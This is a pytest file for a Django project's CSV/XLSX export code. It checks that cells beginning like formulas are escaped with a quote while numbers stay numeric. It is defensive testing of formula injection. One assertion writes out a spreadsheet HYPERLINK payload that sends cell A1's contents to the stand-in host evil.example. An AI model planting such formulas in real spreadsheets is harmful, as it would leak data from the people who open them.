"""The shared CSV/XLSX writer: text that starts like a formula is escaped, numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.test import RequestFactory
from django.utils import timezone
from django.utils.translation import gettext_lazy
from import_export import fields
from import_export.admin import ExportMixin

from bangkit.models import RT
from bangkit.spreadsheets import (
    EXPORT_FORMATS,
    SafeCSV,
    SafeModelResource,
    SafeXLSX,
    csv_text,
    safe_cell,
    xlsx_bytes,
)
from tests.spreadsheets import PAYLOADS, cell_types, csv_fields, xlsx_cells, xlsx_rows

# --- safe_cell ---------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(map(repr, PAYLOADS)))
def test_text_starting_like_a_formula_gets_a_quote(payload):
    assert safe_cell(payload) == "'" + payload


def test_escaping_twice_changes_nothing():
    once = safe_cell("=1+1")

    assert safe_cell(once) == once == "'=1+1"


@pytest.mark.parametrize(
    "value", ["Rabat beton gang Melati", "", "INV-001", "a=b", "'quoted", "Rp 1.000", " =x"]
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [0, -5, 75_000, Decimal("-12.50"), Decimal("2.5"), -1.5, None, True, datetime.date(2026, 3, 1)],
)
def test_numbers_dates_and_none_are_unchanged(value):
    result = safe_cell(value)

    assert result == value and type(result) is type(value)


def test_lazy_text_and_objects_become_escaped_text():
    class Odd:
        def __str__(self):
            return "-odd"

    assert safe_cell(gettext_lazy("=SUM(A1)")) == "'=SUM(A1)"
    assert safe_cell(Odd()) == "'-odd"


# --- The writers -------------------------------------------------------------------------------


def hostile_dataset() -> tablib.Dataset:
    data = tablib.Dataset(headers=["Teks", "Angka", "Desimal", "Tanggal"], title="Uji: [1/2]")
    for payload in PAYLOADS.values():
        data.append([payload, -7, Decimal("-1.5"), datetime.date(2026, 3, 1)])
    data.append(['Toko "Maju"; =1+1, lalu', 75_000, Decimal("2.50"), None])
    return data


def test_csv_quotes_and_escapes_text_and_leaves_numbers_bare():
    text = csv_text(hostile_dataset())

    rows = csv_fields(text)
    assert rows[0] == ["Teks", "Angka", "Desimal", "Tanggal"]
    assert [r[0] for r in rows[1:7]] == ["'" + p for p in PAYLOADS.values()]
    assert rows[7] == ['Toko "Maju"; =1+1, lalu', "75000", "2.50", ""]
    # Numbers are written bare, so a spreadsheet reads them as numbers; text is quoted, so a
    # separator inside it cannot start a new cell, whichever separator the reader uses.
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",-7,-1.5,"2026-03-01"' in text
    assert '"Toko ""Maju""; =1+1, lalu",75000,2.50,""' in text
    for delimiter in ";\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            assert len(row) == 1 or all(not f.startswith(("=", "+", "@")) for f in row)


def test_xlsx_writes_text_as_strings_and_numbers_as_numbers():
    data = xlsx_bytes(hostile_dataset())

    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Uji- -1-2-"]
    cells = xlsx_cells(data)["Uji- -1-2-"]
    assert not [c for c in cells if c.data_type == "f"]
    rows = xlsx_rows(data)
    assert rows[0] == ["Teks", "Angka", "Desimal", "Tanggal"]
    # XML reads a stored carriage return back as a line feed.
    escaped = ["'" + p.replace("\r", "\n") for p in PAYLOADS.values()]
    assert [r[0] for r in rows[1:7]] == escaped
    assert rows[1][1:] == [-7, -1.5, datetime.datetime(2026, 3, 1)]
    assert rows[7][:3] == ['Toko "Maju"; =1+1, lalu', 75_000, 2.5]
    types = cell_types(data)
    assert types[1][:3] == ["s", "n", "n"]
    assert book.worksheets[0].freeze_panes == "A2"
    assert book.worksheets[0]["A1"].font.bold


def test_xlsx_one_sheet_per_dataset_and_control_characters_do_not_break_it():
    first = tablib.Dataset(["=A\x07B", 1], headers=["Teks", "N"], title="Pembelian")
    second = tablib.Dataset(headers=["Waktu"], title="Pembayaran")
    second.append([timezone.make_aware(datetime.datetime(2026, 3, 1, 9, 30))])

    data = xlsx_bytes(tablib.Databook([first, second]))

    cells = xlsx_cells(data)
    assert list(cells) == ["Pembelian", "Pembayaran"]
    assert xlsx_rows(data, "Pembelian")[1] == ["'=A\N{REPLACEMENT CHARACTER}B", 1]
    assert xlsx_rows(data, "Pembayaran")[1] == [datetime.datetime(2026, 3, 1, 9, 30)]


def test_stock_tablib_xlsx_would_write_a_formula():
    """Why the project has its own writer: tablib stores '=…' text as a live formula."""
    data = tablib.Dataset([PAYLOADS["="]], headers=["Teks"]).export("xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].data_type == "f"
    with pytest.raises(AssertionError):
        xlsx_cells(data)


# --- django-import-export ----------------------------------------------------------------------


class RTResource(SafeModelResource):
    kelurahan = fields.Field(attribute="kelurahan__name", column_name="Kelurahan")
    number = fields.Field(attribute="number", column_name="RT")  # no numeric widget
    head = fields.Field(attribute="head_name", column_name="Ketua")
    phone = fields.Field(column_name="Telepon")

    class Meta:
        model = RT
        fields = ("kelurahan", "number", "head", "phone", "households")
        export_order = fields

    def dehydrate_phone(self, rt):
        return rt.head_phone


@pytest.fixture
def hostile_rt(city):
    city.kel_a.name = PAYLOADS["\t"]
    city.kel_a.save()
    city.rt_a1.head_name = PAYLOADS["="]
    city.rt_a1.head_phone = "+6281234567890"
    city.rt_a1.households = 120
    city.rt_a1.save()
    return city.rt_a1


def test_resource_escapes_text_and_keeps_numbers(hostile_rt):
    dataset = RTResource().export(queryset=RT.objects.filter(pk=hostile_rt.pk))

    assert list(dataset[0]) == [
        "'" + PAYLOADS["\t"],
        1,
        "'" + PAYLOADS["="],
        "'+6281234567890",
        120,
    ]


@pytest.mark.parametrize("settings_escape", [False, True])
def test_admin_formats_write_safe_files(hostile_rt, settings, settings_escape):
    # import-export's own escaping setting neither helps nor harms these formats.
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = settings_escape
    dataset = RTResource().export(queryset=RT.objects.filter(pk=hostile_rt.pk))

    csv_rows = csv_fields(SafeCSV().export_data(dataset))
    xlsx = SafeXLSX().export_data(dataset)

    assert csv_rows[1] == [
        "'" + PAYLOADS["\t"],
        "1",
        "'" + PAYLOADS["="],
        "'+6281234567890",
        "120",
    ]
    assert xlsx_rows(xlsx)[1] == [
        "'" + PAYLOADS["\t"],
        1,
        "'" + PAYLOADS["="],
        "'+6281234567890",
        120,
    ]
    assert cell_types(xlsx)[1] == ["s", "n", "s", "s", "n"]


def test_every_admin_export_uses_the_safe_formats_and_resources(admin_user):
    request = RequestFactory().get("/")
    request.user = admin_user
    exporting = {
        model._meta.label: model_admin
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, ExportMixin)
    }

    assert {"proposals.MusrenbangEntry", "procurement.ReferencePrice"} <= set(exporting)
    for label, model_admin in exporting.items():
        formats = model_admin.get_export_formats()
        assert formats and all(f in EXPORT_FORMATS for f in formats), label
        resources = model_admin.get_export_resource_classes(request)
        assert resources and all(issubclass(r, SafeModelResource) for r in resources), label
